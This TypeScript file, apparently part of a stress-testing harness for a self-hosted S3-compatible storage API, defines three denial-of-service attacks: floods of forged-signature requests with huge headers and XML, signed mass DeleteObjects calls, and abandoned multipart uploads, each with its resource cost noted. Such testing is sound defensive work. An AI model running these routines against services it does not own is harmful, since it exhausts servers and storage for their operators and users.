/** Requests over the S3 protocol. */
import type { S3Client } from '@aws-sdk/client-s3';
import type { Attack, AttackContext } from '../../attacker/attack.ts';
import { errorLabel, flood } from '../../attacker/http.ts';

const KEYS = 10_000;

/** Sends requests without a valid signature. */
export const s3Garbage: Attack = {
  name: 'storage/s3-garbage',
  description: 'S3 requests with invented signatures, long queries and 1 MB of XML, 50 at once',
  cost: 'a signature check per request; reading bodies that are refused',
  run: (context) => {
    const date = new Date().toISOString().replace(/[-:]|\.\d+/g, '');
    const scope = `${date.slice(0, 8)}/us-east-1/s3/aws4_request`;
    const body = deleteXml();
    return flood(context, {
      sockets: 50,
      request: (index) => ({
        path: index % 2 === 0 ? '/storage/v1/s3/abuse?delete' : `/storage/v1/s3/abuse?${'a=b&'.repeat(5000)}`,
        headers: {
          'x-amz-date': date,
          'x-amz-content-sha256': 'UNSIGNED-PAYLOAD',
          authorization: `AWS4-HMAC-SHA256 Credential=local/${scope}, SignedHeaders=${'host;'.repeat(1000)}host, Signature=${'0'.repeat(64)}`,
        },
        ...(index % 2 === 0 && { body }),
      }),
    });
  },
};

/** Deletes many keys per request, with a valid signature. */
export const s3Deletes: Attack = {
  name: 'storage/s3-deletes',
  description: 'DeleteObjects with 10,000 keys (1 MB of XML), signed by an account, 4 at once',
  cost: 'event loop: parsing XML; PostgreSQL',
  run: (context) => {
    const Objects = Array.from({ length: KEYS }, (_, index) => ({
      Key: `missing/${'x'.repeat(60)}/${index}`,
    }));
    return repeat(context, 4, ({ client, sdk }) =>
      client.send(new sdk.DeleteObjectsCommand({ Bucket: 'abuse', Delete: { Objects } })),
    );
  },
};

/** Starts multipart uploads and never finishes them. */
export const s3Unfinished: Attack = {
  name: 'storage/s3-unfinished',
  description:
    'uploads in parts with one part of 100 KB each, never completed, signed by an account, 20 at once',
  cost: 'rows and files that are kept for seven days',
  run: (context) =>
    repeat(context, 20, async ({ client, sdk }, index) => {
      const object = { Bucket: 'abuse', Key: `unfinished/${index}` };
      const { UploadId } = await client.send(new sdk.CreateMultipartUploadCommand(object));
      await client.send(
        new sdk.UploadPartCommand({ ...object, UploadId, PartNumber: 1, Body: 'x'.repeat(100_000) }),
      );
    }),
};

/** The AWS SDK and its client. Only these attacks load the SDK, because loading takes a second. */
interface S3 {
  client: S3Client;
  sdk: typeof import('@aws-sdk/client-s3');
}

/** Calls S3 from several concurrent loops, with the token of an account, so that policies apply. */
async function repeat(
  context: AttackContext,
  loops: number,
  call: (s3: S3, index: number) => Promise<unknown>,
): Promise<void> {
  const sdk = await import('@aws-sdk/client-s3');
  const client = new sdk.S3Client({
    endpoint: `${context.url}/storage/v1/s3`,
    region: 'us-east-1',
    forcePathStyle: true,
    maxAttempts: 1,
    requestHandler: { httpAgent: { localAddress: context.address, keepAlive: true, maxSockets: loops } },
    credentials: {
      accessKeyId: 'local',
      secretAccessKey: context.anonKey,
      sessionToken: context.accounts[0]?.accessToken ?? '',
    },
  });
  let index = 0;
  const loop = async () => {
    while (!context.signal.aborted) {
      const label = await call({ client, sdk }, index++).then(
        () => 200,
        (error) => error.$metadata?.httpStatusCode ?? errorLabel(error),
      );
      context.tally.count(label);
    }
  };
  await Promise.all(Array.from({ length: loops }, loop));
}

function deleteXml(): string {
  const object = (index: number) => `<Object><Key>missing/${'x'.repeat(60)}/${index}</Key></Object>`;
  return `<Delete>${Array.from({ length: KEYS }, (_, index) => object(index)).join('')}</Delete>`;
}
